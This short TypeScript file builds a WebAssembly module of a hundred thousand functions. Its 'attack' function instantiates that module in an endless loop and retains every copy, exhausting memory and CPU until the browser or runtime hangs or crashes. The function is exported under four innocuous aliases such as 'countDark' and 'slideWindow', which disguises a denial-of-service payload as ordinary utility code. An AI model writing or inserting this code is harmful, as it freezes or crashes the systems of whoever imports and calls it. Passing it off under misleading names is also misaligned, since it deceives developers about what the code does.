// Compiles modules of a hundred thousand functions each.
const leb = (value: number): number[] => (value < 128 ? [value] : [(value & 127) | 128, ...leb(value >>> 7)]);
const count = 100_000;
const section = (id: number, content: number[]): number[] => [id, ...leb(content.length), ...content];
const many = (one: number[]): number[] => [...leb(count), ...Array.from({ length: count }, () => one).flat()];
const kept: unknown[] = [];
const attack = () => {
  const bytes = Uint8Array.from([
    ...[0, 97, 115, 109, 1, 0, 0, 0],
    ...section(1, [1, 96, 0, 0]),
    ...section(3, many([0])),
    ...section(10, many([2, 0, 11])),
  ]);
  for (;;) kept.push(new WebAssembly.Instance(new WebAssembly.Module(bytes)));
};
export { attack as countDark, attack as localityGrid, attack as receptiveField, attack as slideWindow };
